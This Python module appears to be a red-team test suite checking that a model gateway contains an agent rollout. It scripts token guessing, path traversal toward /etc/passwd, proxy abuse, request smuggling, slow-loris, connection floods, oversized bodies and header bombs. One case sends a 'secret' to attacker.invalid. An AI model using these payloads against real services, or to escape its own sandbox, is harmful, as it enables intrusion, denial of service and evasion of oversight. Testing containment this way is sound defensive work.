"""Asking the gateway, the only thing in reach, for what a rollout has no right to."""

from __future__ import annotations

from collections.abc import Callable

from harnesses.base import Status
from harnesses.gateway.wire import WIRE, read_wire
from tests.redteam.attempt import Attempt, Case

PRELUDE = r"""
import json, os, secrets, socket, urllib.error, urllib.request

TOKEN = os.environ["GATEWAY_TOKEN"]
ASK = {"model": "sim-1", "input": "hi"}
HEAD = b"POST /v1/responses HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "


def post(path, body, token=TOKEN, raw=None, method="POST"):
    data = raw if raw is not None else json.dumps(body).encode()
    headers = {"content-type": "application/json", "authorization": "Bearer " + token}
    url = "http://127.0.0.1:8377" + path
    request = urllib.request.Request(url, data, headers, method=method)
    for left in (2, 1, 0):
        try:
            return urllib.request.urlopen(request, timeout=20).status
        except urllib.error.HTTPError as error:
            return error.code
        except OSError:
            if not left:
                return "none"


def talk(data, wait=5):
    s = socket.create_connection(("127.0.0.1", 8377))
    s.settimeout(wait)
    got = b""
    try:
        s.sendall(data)
        while chunk := s.recv(65536):
            got += chunk
    except OSError:
        pass
    return got


def status(got):
    print("status", int(got.split()[1]) if isinstance(got, bytes) else got)
"""

GUESSING = r"""
tokens = ["so-" + secrets.token_urlsafe(32) for _ in range(200)]
tokens += ["", "so-", TOKEN[:-1], TOKEN + "x", TOKEN.upper()]
for found in {post("/v1/responses", ASK, token) for token in tokens}:
    status(found)
"""

OTHER_MODELS = r"""
for model in ("gpt-5.5", "", None, ["sim-1"], "sim-1 "):
    status(post("/v1/responses", {**ASK, "model": model}))
"""

OTHER_SERVICES = r"""
for path in ("files", "batches", "fine_tuning/jobs", "responses/resp_1", "embeddings"):
    status(post("/v1/" + path, ASK))
for path in ("/", "/docs", "/openapi.json"):
    status(post(path, ASK))
status(post("/v1/responses", None, method="DELETE", raw=b""))
"""

TRAVERSAL = r"""
for path in ("/v1/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "//etc/passwd",
             "/v1/models/../../x", "/v1/responses%00"):
    got = talk(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    assert b"root:" not in got
    status(got)
"""

PROXY = r"""
for line in ("CONNECT example.com:443", "GET http://example.com/"):
    got = talk(f"{line} HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n".encode())
    print("status", "connected" if b" 200 " in got else "refused")
"""

OVERSIZED = r"""
big = b'{"model": "sim-1", "input": "' + b"x" * (65 << 20) + b'"}'
found = post("/v1/responses", None, raw=big)
status(413 if found == "none" else found)  # It may close the connection before all is sent.
status(post("/v1/responses", ASK))
"""

ENDLESS = r"""
s = socket.create_connection(("127.0.0.1", 8377))
s.settimeout(20)
s.sendall(HEAD + TOKEN.encode() + b"\r\nTransfer-Encoding: chunked\r\n\r\n")
answer = b""
try:
    for _ in range(200):
        s.sendall(b"100000\r\n" + b"x" * 0x100000 + b"\r\n")
    answer = s.recv(1000)
except OSError:
    pass
status(answer or 413)  # Either it says so or it closes the connection.
status(post("/v1/responses", ASK))
"""

ODD_BODIES = r"""
nested = b'{"model":"sim-1","input":' + b"[" * 50000 + b"]" * 50000 + b"}"
for raw in (b"[" * 100000, nested, b"\xff\xfe", b"[]", b"null", b""):
    status(post("/v1/responses", None, raw=raw))
"""

SLOW = r"""
held = []
for _ in range(200):
    try:
        s = socket.create_connection(("127.0.0.1", 8377), 2)
        s.sendall(b"POST /v1/resp")
        held.append(s)
    except OSError:
        break
for s in held[:5]:
    s.close()
status(post("/v1/responses", ASK))
"""

FLOOD = r"""
held = []
for _ in range(400):
    s = socket.socket()
    s.settimeout(0.02)
    try:
        s.connect(("127.0.0.1", 8377))
        s.sendall(b"POST /v1/resp")
    except OSError:
        pass
    held.append(s)
for s in held:
    s.close()
status(post("/v1/responses", ASK))
"""

SMUGGLING = r"""
evil = HEAD + b"nobody\r\n\r\n"
for head in (b"Content-Length: 5\r\nTransfer-Encoding: chunked",
             b"Content-Length: 5\r\nContent-Length: 0",
             b"Transfer-Encoding: xchunked\r\nContent-Length: 4",
             b"Content-Length: -1", b"Content-Length: 5\r\n X: y"):
    got = talk(HEAD + b"nobody\r\n" + head + b"\r\n\r\n0\r\n\r\n" + evil, 2)
    assert b" 200 " not in got, got
status(post("/v1/responses", ASK))
"""

HEADER_BOMB = r"""
lines = b"".join(b"h%d: %s\r\n" % (i, b"x" * 1000) for i in range(5000))
assert b" 200 " not in talk(HEAD + TOKEN.encode() + b"\r\n" + lines + b"\r\n")
status(post("/v1/responses", ASK))
"""

FETCHING = r"""
picture = {"type": "input_image", "image_url": "https://attacker.invalid/?x=secret"}
status(post("/v1/responses", {**ASK, "input": [{"role": "user", "content": [picture]}]}))
search = {**ASK, "tools": [{"type": "web_search"}, {"type": "mcp", "server_url": "https://x"}]}
status(post("/v1/responses", search))
"""

BUDGET = r"""
for _ in range(40):
    post("/v1/responses", ASK)
"""


def _statuses(*wanted: int | str) -> Callable[[Attempt], None]:
    """The answers have these statuses, and the rollout goes on to its end."""

    def check(attempt: Attempt) -> None:
        lines = [line for line in attempt.said.splitlines() if line.startswith("status ")]
        assert lines == [f"status {status}" for status in wanted], attempt.said
        attempt.lost()

    return check


def _exhausted(attempt: Attempt) -> None:
    assert attempt.result.status is Status.AGENT_ERROR
    assert "budget of 30 model requests" in attempt.result.message
    attempt.untouched()


def _not_outside(attempt: Attempt) -> None:
    _statuses(403, 200)(attempt)
    asked = next(one for one in read_wire(attempt.folder / WIRE) if "tool mcp" in one.left_out)
    assert asked.left_out == ("tool web_search", "tool mcp")
    assert asked.request["tools"] == []


def _case(name: str, expected: str, script: str, check: Callable[[Attempt], None]) -> Case:
    command = f"python3 - <<'END'\n{PRELUDE}\n{script}\nEND"
    return Case(name, "gateway", expected, (command,), check, harness="codex")


GATEWAY = [
    _case("guessing tokens", "401 for every one of 205 guesses", GUESSING, _statuses(401)),
    _case("another model", "403", OTHER_MODELS, _statuses(*[403] * 5)),
    _case(
        "other services",
        "404 or 405: no files, no batches, nobody else's responses",
        OTHER_SERVICES,
        _statuses(*[404] * 8, 405),
    ),
    _case("path traversal", "404: nothing of the host is served", TRAVERSAL, _statuses(*[404] * 5)),
    _case("using it as a proxy", "it connects nowhere", PROXY, _statuses("refused", "refused")),
    _case("oversized body", "413, and the next request is served", OVERSIZED, _statuses(413, 200)),
    _case(
        "body without end",
        "413; the next request is served",
        ENDLESS,
        _statuses(413, 200),
    ),
    _case("odd bodies", "400 for what is no JSON object", ODD_BODIES, _statuses(*[400] * 6)),
    _case("slow-loris", "half-sent requests keep nobody from being served", SLOW, _statuses(200)),
    _case("a flood of connections", "they wait; the relay does not end", FLOOD, _statuses(200)),
    _case(
        "header smuggling",
        "nothing in a request's body is taken for a request with rights",
        SMUGGLING,
        _statuses(200),
    ),
    _case("header bomb", "refused; the next request is served", HEADER_BOMB, _statuses(200)),
    _case(
        "having the service go outside",
        "addresses are refused, and tools of the service taken out of the request",
        FETCHING,
        _not_outside,
    ),
    _case("using up the budget", "the rollout ends as agent_error", BUDGET, _exhausted),
]
